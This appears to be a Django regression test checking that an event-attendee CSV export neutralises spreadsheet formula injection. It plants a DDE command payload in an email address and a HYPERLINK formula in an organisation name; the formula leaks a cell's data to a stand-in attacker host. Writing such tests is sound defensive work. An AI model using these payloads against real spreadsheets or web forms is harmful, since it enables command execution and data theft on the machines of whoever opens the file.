"""Formulas reach the organiser's attendee spreadsheet.

attendees_csv keeps formulas out of the name, job title and needs columns, but writes
the email address and the organisation's names as they are. `=cmd|'/Ccalc'!A0@x.com` is
a valid email address (Django's validator accepts it), and an invited organisation's
admin chooses its own name on the profile page: either reaches the chamber's Excel as a
live formula (DDE / HYPERLINK exfiltration).
"""

import csv
import io

from django.urls import reverse

from accounts.models import Organisation
from events.services import registration_create
from tests.conftest import tenant_of

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_of_the_attendee_csv_starts_a_formula(
    client, published_event, rep, chamber_staff, chamber
):
    registration_create(
        tenant=tenant_of(rep),
        event_id=published_event.pk,
        full_name="Li Lei",
        email="=cmd|'/Ccalc'!A0@x.com",
    )
    Organisation.objects.filter(pk=rep.organisation_id).update(
        name_en='=HYPERLINK("https://evil.example/?"&A2,"Zeta")'
    )
    client.force_login(chamber_staff.user)
    url = reverse(
        "event_attendees_csv", kwargs={"org_slug": chamber.slug, "pk": published_event.pk}
    )

    body = client.get(url).content.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert rows
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert not live, live
